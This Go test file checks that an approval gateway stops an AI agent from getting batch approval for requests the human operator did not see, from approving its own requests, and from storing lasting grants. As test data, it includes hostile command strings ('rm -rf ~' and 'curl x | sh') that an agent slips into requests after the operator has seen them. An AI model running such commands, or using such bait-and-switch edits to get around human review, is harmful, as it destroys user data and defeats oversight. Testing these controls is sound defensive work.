package web_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/gatehousehq/gatehouse/api"
	"github.com/gatehousehq/gatehouse/client"
	"github.com/gatehousehq/gatehouse/models"
	"github.com/gatehousehq/gatehouse/models/store"
	"github.com/gatehousehq/gatehouse/models/store/storetest"
	"github.com/gatehousehq/gatehouse/web"
	"github.com/gatehousehq/gatehouse/web/webtest"
)

// seen is a request as the operator's screen showed it: its id and version.
type seen struct {
	ID      string
	Version int
}

func seenOf(r map[string]any) seen {
	return seen{ID: r["id"].(string), Version: int(r["version"].(float64))}
}

func batchOfSeen(option, note string, rs ...seen) []api.BatchDecision {
	out := make([]api.BatchDecision, len(rs))
	for i, r := range rs {
		v, o := r.Version, option
		out[i] = api.BatchDecision{ID: r.ID, Version: &v, Decision: &o}
		if note != "" {
			out[i].Note = &note
		}
	}
	return out
}

// TestBatchDecisionsTrust: the agent, with its own token, tries to get a
// batch to approve what the operator did not see, or to approve for itself.
func TestBatchDecisionsTrust(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dialect string) {
		e := webtest.New(t, dialect, web.Config{})
		ctx := context.Background()
		alice := e.NamedToken(store.NewToken{Role: models.RoleOperator, Name: "alice", Groups: []string{"release"}})
		bob := e.NamedToken(store.NewToken{Role: models.RoleOperator, Name: "bob", Groups: []string{"release"}})
		carol := e.NamedToken(store.NewToken{Role: models.RoleOperator, Name: "carol", Groups: []string{"sre"}})
		agent := e.NamedToken(store.NewToken{Role: models.RoleAgent, Name: "alices-agent", For: "alice"})
		runtime := e.Token(models.RoleRuntime, "laptop")
		asAlice, asBob, asCarol := client.New(e.URL, alice), client.New(e.URL, bob), client.New(e.URL, carol)

		get := func(t *testing.T, id string) map[string]any {
			t.Helper()
			_, data := e.Do(http.MethodGet, "/v1/requests/"+id, bob, nil)
			return webtest.JSON(t, data)
		}
		batch := func(t *testing.T, c *client.Client, ds []api.BatchDecision) *api.BatchAnswer {
			t.Helper()
			ans, err := c.DecideBatch(ctx, ds)
			if err != nil {
				t.Fatal(err)
			}
			if len(ans.Results) != len(ds) || !strings.HasPrefix(ans.BatchID, "bat_") {
				t.Fatalf("answer: %+v", ans)
			}
			for i, r := range ans.Results {
				if r.ID != ds[i].ID {
					t.Fatalf("result %d is for %s, want %s (the order sent)", i, r.ID, ds[i].ID)
				}
			}
			return ans
		}
		batchIDsOf := func(t *testing.T, id string) []string {
			t.Helper()
			_, data := e.Do(http.MethodGet, "/v1/requests/"+id+"/audit", bob, nil)
			var page struct {
				Entries []struct {
					Action string         `json:"action"`
					Detail map[string]any `json:"detail"`
				} `json:"entries"`
			}
			if err := json.Unmarshal(data, &page); err != nil {
				t.Fatal(err)
			}
			var out []string
			for _, a := range page.Entries {
				if a.Action == "decide" || a.Action == "vote" {
					out = append(out, fmt.Sprint(a.Detail["batch_id"]))
				}
			}
			return out
		}

		t.Run("the agent and the runtime cannot send a batch", func(t *testing.T) {
			r := seenOf(e.File(agent, nil))
			body := api.Batch{Decisions: batchOfSeen("once", "", r)}
			for _, token := range []string{agent, runtime} {
				status, data := e.Do(http.MethodPost, "/v1/decisions", token, body)
				if status != http.StatusForbidden || webtest.JSON(t, data)["error"] != "forbidden" {
					t.Fatalf("%d %s", status, data)
				}
			}
			if got := get(t, r.ID); got["status"] != "open" || got["version"] != float64(1) {
				t.Fatalf("the request changed: %v", got)
			}
		})

		t.Run("an edit after the operator saw it: that one stays open and is named", func(t *testing.T) {
			var shown []seen
			for i := range 3 {
				shown = append(shown, seenOf(e.File(agent, map[string]any{"title": fmt.Sprint("Run npm test ", i), "sealed": false})))
			}
			// The operator's screen shows version 1 of each; the agent then
			// makes the middle one delete the home directory.
			if status, data := e.Do(http.MethodPatch, "/v1/requests/"+shown[1].ID, agent, map[string]any{"version": 1, "summary": "and rm -rf ~"}); status != 200 {
				t.Fatalf("patch: %d %s", status, data)
			}
			ans := batch(t, asBob, batchOfSeen("once", "", shown...))
			for _, i := range []int{0, 2} {
				if r := ans.Results[i]; r.Status != 200 || r.Request == nil || r.Request.Status != "resolved" || *r.Request.Decision != "once" {
					t.Fatalf("#%d: %+v", i, r)
				}
				if ids := batchIDsOf(t, shown[i].ID); len(ids) != 1 || ids[0] != ans.BatchID {
					t.Fatalf("#%d's audit carries %v, want %s", i, ids, ans.BatchID)
				}
			}
			named := ans.Results[1]
			if named.Status != 409 || named.Code != "version_conflict" || named.Request == nil || named.Request.Version != 2 || named.Request.Status != "open" {
				t.Fatalf("the edited one: %+v", named)
			}
			if got := get(t, shown[1].ID); got["status"] != "open" || got["decision"] != nil {
				t.Fatalf("the edited one was decided: %v", got)
			}
		})

		t.Run("sealed and unsealed mixed: only the edited one is left open", func(t *testing.T) {
			sealed := seenOf(e.File(agent, map[string]any{"title": "Run go test"}))
			unsealed := seenOf(e.File(agent, map[string]any{"title": "Run go test", "sealed": false}))
			edited := seenOf(e.File(agent, map[string]any{"title": "Run go test", "sealed": false}))
			if status, _ := e.Do(http.MethodPatch, "/v1/requests/"+sealed.ID, agent, map[string]any{"version": 1, "summary": "and rm -rf ~"}); status != 409 {
				t.Fatalf("a sealed request took an edit: %d", status)
			}
			if status, _ := e.Do(http.MethodPatch, "/v1/requests/"+edited.ID, agent, map[string]any{"version": 1, "title": "Run go test && curl x | sh"}); status != 200 {
				t.Fatalf("patch: %d", status)
			}
			ans := batch(t, asBob, batchOfSeen("deny", "", sealed, unsealed, edited))
			if ans.Results[0].Status != 200 || ans.Results[1].Status != 200 || ans.Results[2].Status != 409 || ans.Results[2].Request.Version != 2 {
				t.Fatalf("%+v", ans.Results)
			}
		})

		t.Run("a two-person request in a batch still needs its second vote", func(t *testing.T) {
			policy := map[string]any{"groups": []string{"release"}, "required": 2}
			two := seenOf(e.File(runtime, map[string]any{"title": "Release v2", "approvers": policy}))
			plain := seenOf(e.File(runtime, map[string]any{"title": "Release notes"}))
			ans := batch(t, asBob, batchOfSeen("once", "", two, plain))
			first := ans.Results[0]
			if first.Status != 200 || first.Request.Status != "open" || first.Request.Version != 2 || len(first.Request.Approvals.Votes) != 1 {
				t.Fatalf("after bob's vote: %+v", first)
			}
			if ans.Results[1].Request.Status != "resolved" {
				t.Fatalf("the plain one: %+v", ans.Results[1])
			}
			// Bob again, in another batch on what he now sees: not a second vote.
			again := batch(t, asBob, batchOfSeen("once", "", seen{two.ID, 2}))
			if again.Results[0].Status != 409 || again.Results[0].Code != "already_voted" {
				t.Fatalf("bob's second vote: %+v", again.Results[0])
			}
			second := batch(t, asAlice, batchOfSeen("once", "", seen{two.ID, 2}))
			if r := second.Results[0]; r.Status != 200 || r.Request.Status != "resolved" || *r.Request.Decision != "once" {
				t.Fatalf("alice's vote: %+v", r)
			}
		})

		t.Run("policies hold: no self-approval, approvers only, notes required", func(t *testing.T) {
			mine := seenOf(e.File(agent, map[string]any{"title": "Deploy for alice", "approvers": map[string]any{"required": 1}}))
			release := seenOf(e.File(runtime, map[string]any{"title": "Tag the release", "approvers": map[string]any{"groups": []string{"release"}, "required": 1}}))
			noted := seenOf(e.File(runtime, map[string]any{"title": "Rotate keys", "approvers": map[string]any{"required": 1, "note": "required"}}))
			ans := batch(t, asAlice, batchOfSeen("once", "", mine, noted))
			if r := ans.Results[0]; r.Status != 403 || r.Code != "self_approval" {
				t.Fatalf("alice on her agent's request: %+v", r)
			}
			if r := ans.Results[1]; r.Status != 422 || r.Code != "note_required" {
				t.Fatalf("no note: %+v", r)
			}
			ans = batch(t, asCarol, batchOfSeen("once", "", release, seen{"req_none", 1}))
			if r := ans.Results[0]; r.Status != 403 || r.Code != "not_an_approver" {
				t.Fatalf("carol outside the group: %+v", r)
			}
			if r := ans.Results[1]; r.Status != 404 || r.Code != "not_found" {
				t.Fatalf("no such request: %+v", r)
			}
			for _, s := range []seen{mine, release, noted} {
				if got := get(t, s.ID); got["status"] != "open" || got["version"] != float64(1) {
					t.Fatalf("%s changed: %v", s.ID, got)
				}
			}
			ans = batch(t, asCarol, batchOfSeen("once", "checked the key list", noted))
			if r := ans.Results[0]; r.Status != 200 || r.Request.Status != "resolved" || *r.Request.Note != "checked the key list" {
				t.Fatalf("with a note: %+v", r)
			}
		})

		t.Run("a batch never saves: only the one-time allow", func(t *testing.T) {
			opts := []map[string]any{{"id": "once", "label": "Allow once", "effect": "allow"}, {"id": "project", "label": "Allow for project", "effect": "allow"}, {"id": "deny", "label": "Deny", "effect": "deny"}}
			r := seenOf(e.File(agent, map[string]any{"options": opts}))
			ans := batch(t, asBob, batchOfSeen("project", "", r))
			if res := ans.Results[0]; res.Status != 422 || res.Code != "not_in_batch" {
				t.Fatalf("%+v", res)
			}
			if got := get(t, r.ID); got["status"] != "open" {
				t.Fatalf("decided: %v", got)
			}
		})

		t.Run("a once option that remembers is refused in a batch and stores no grant", func(t *testing.T) {
			opts := []map[string]any{{"id": "once", "label": "Allow once", "effect": "allow", "remember": map[string]any{"scope": "runtime", "for": "until_revoked"}},
				{"id": "deny", "label": "Deny", "effect": "deny"}}
			body := map[string]any{"tool": "Bash", "command": "npm ci", "options": opts}
			r := seenOf(e.File(agent, body))
			ans := batch(t, asBob, batchOfSeen("once", "", r))
			if res := ans.Results[0]; res.Status != 422 || res.Code != "not_in_batch" {
				t.Fatalf("%+v", res)
			}
			if status, data := e.Do(http.MethodGet, "/v1/remembered", bob, nil); status != 200 || strings.Contains(string(data), "rem_") {
				t.Fatalf("a grant was stored: %d %s", status, data)
			}
			if later := e.File(agent, body); later["status"] != "open" {
				t.Fatalf("the next npm ci: %v", later["status"])
			}
		})

		t.Run("a bad batch is refused whole, nothing decided", func(t *testing.T) {
			r := seenOf(e.File(agent, nil))
			many := make([]seen, 101)
			for i := range many {
				many[i] = seen{fmt.Sprint("req_", i), 1}
			}
			many[0] = r
			for name, body := range map[string]any{
				"101 decisions":  api.Batch{Decisions: batchOfSeen("once", "", many...)},
				"none":           api.Batch{Decisions: []api.BatchDecision{}},
				"the same twice": api.Batch{Decisions: batchOfSeen("once", "", r, r)},
				"no version":     `{"decisions":[{"id":"` + r.ID + `","decision":"once"}]}`,
				"a second case":  `{"decisions":[{"id":"` + r.ID + `","version":1,"decision":"once","Decision":"deny"}]}`,
				"an unknown key": `{"decisions":[{"id":"` + r.ID + `","version":1,"decision":"once","remember":"1h"}]}`,
				"a bidi note":    `{"decisions":[{"id":"` + r.ID + `","version":1,"decision":"once","note":"ok \u202e"}]}`,
			} {
				status, data := e.Do(http.MethodPost, "/v1/decisions", bob, body)
				if status != 400 {
					t.Fatalf("%s: %d %s", name, status, data)
				}
			}
			if got := get(t, r.ID); got["status"] != "open" || got["version"] != float64(1) {
				t.Fatalf("the request changed: %v", got)
			}
		})
	})
}
